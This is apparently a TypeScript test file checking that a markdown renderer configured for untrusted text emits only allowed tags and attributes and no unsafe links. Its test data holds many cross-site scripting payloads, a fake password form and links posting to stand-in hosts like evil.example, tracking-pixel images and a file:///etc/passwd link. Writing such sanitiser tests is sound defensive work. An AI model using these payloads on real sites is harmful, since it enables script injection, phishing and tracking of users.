import { expect } from 'chai';
import Markdown from 'markdown-to-jsx/react';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { FOREIGN_MARKDOWN, LONGEST_FOREIGN_TEXT } from './foreign-markdown-options.js';

/** The elements that a stranger's text may become, with their allowed attributes. */
const ALLOWED: Readonly<Record<string, readonly string[]>> = {
  a: ['href', 'target', 'rel'],
  p: ['data-heading'],
  span: ['class'],
  code: ['class'],
  th: ['style'],
  td: ['style'],
  ol: ['start'],
  ...Object.fromEntries(
    'div ul li pre blockquote table thead tbody tr em strong del mark br hr sup footer'.split(' ').map((name) => [name, []]),
  ),
};

const drawn = (text: string) => renderToStaticMarkup(createElement(Markdown, { options: FOREIGN_MARKDOWN }, text));

/** @returns forbidden parts of the output; React escapes every `<` of a text, so anything that looks like a tag is one */
function forbidden(html: string): string[] {
  return [...html.matchAll(/<([a-z][^\s/>]*)((?:\s+[^\s=>]+="[^"]*")*)\s*\/?>/gi)].flatMap(([tag, name = '', attributes = '']) => {
    const known = ALLOWED[name];
    const names = [...attributes.matchAll(/\s([^\s=]+)="/g)].map(([, attribute = '']) => attribute);
    return known && names.every((attribute) => known.includes(attribute)) ? [] : [tag];
  });
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT\n>alert(1)</SCRIPT>',
  '<img src=x onerror="alert(1)">',
  '<svg/onload=alert(1)>',
  '<iframe src="https://evil.example" srcdoc="<script>1</script>"></iframe>',
  '<object data=x></object><embed src=x>',
  '<form action=//evil.example><input name=password><button>Sign in</button></form>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<base href=//evil.example><meta http-equiv=refresh content=0>',
  '<details open ontoggle=alert(1)><summary>s</summary>b</details>',
  '<a href="javascript:alert(1)" onclick="alert(1)">t</a>',
  '<!-- <img src=x onerror=alert(1)> -->',
  '# <b onclick=alert(1)>Heading</b>',
  '| a | b |\n|--|:-:|\n| <script>1</script> | [x](vbscript:x) |',
  '> <video src=x onerror=alert(1)>',
  '- <math><mi xlink:href="javascript:alert(1)">',
  '```html onload=alert(1)\n<script>1</script>\n```',
  '```"onmouseover="alert(1)\nx\n```',
  'a `<b onclick=alert(1)>` b',
  '# root\n\n## main\n\nNote.[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '- [x] done\n- [ ] not done',
  '![picture](https://tracker.example/pixel.png)',
  '![picture][1]\n\n[1]: https://tracker.example/pixel.png',
  '[![badge](https://tracker.example/b.svg)](https://evil.example)',
  '[a](https://e.example"onmouseover="alert(1))',
];

const NO_WEB_ADDRESS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java&#115;cript:alert(1)',
  '%6Aavascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD4=',
  'vbscript:x',
  'file:///etc/passwd',
  '//evil.example',
  '/api/admin/settings',
  '../admin',
];

const README =
  '# Lamp\n\nA **bold** [page](https://lamp.example/a).\n\n- one\n\n![A lamp](https://lamp.example/l.png)\n\n```sh\nnpm test\n```\n\n';

describe('markdown from strangers', () => {
  for (const text of HOSTILE) {
    it(`draws nothing but text of ${JSON.stringify(text.slice(0, 60))}`, () => {
      expect(forbidden(drawn(text))).to.deep.equal([]);
    });
  }

  it('is checked by a test that sees forbidden content', () => {
    const html = '<p id="root">a</p><img src="x"/><a href="x" onclick="y">b</a><script>1</script><p>fine</p>';

    expect(forbidden(html)).to.deep.equal(['<p id="root">', '<img src="x"/>', '<a href="x" onclick="y">', '<script>']);
  });

  for (const address of NO_WEB_ADDRESS) {
    it(`makes no link from ${address}`, () => {
      const text = `[x](${address})\n\n[y]\n\n[y]: ${address}\n\n<${address}>`;

      expect(drawn(text)).not.to.match(/href|<a\b/);
    });
  }

  it('keeps the useful content of a README', () => {
    const html = drawn(README);

    expect(html).to.contain('<p data-heading="true">Lamp</p>');
    expect(html).to.contain('<strong>bold</strong>');
    expect(html).to.contain('<a href="https://lamp.example/a" target="_blank" rel="noreferrer nofollow">page</a>');
    expect(html).to.contain('<li>one</li>').and.to.contain('[A lamp]').and.to.contain('npm test');
  });

  for (const part of ['> ', '|a|b|\n|-|-|\n', '[^a]: ', '==', '![', '_a ', '[a](http://b.c) ', '<a ', '- ', '`', '*']) {
    it(`draws an endless repetition of ${JSON.stringify(part)}, and nothing but text of it`, () => {
      expect(forbidden(drawn(part.repeat(LONGEST_FOREIGN_TEXT).slice(0, LONGEST_FOREIGN_TEXT)))).to.deep.equal([]);
    });
  }
});
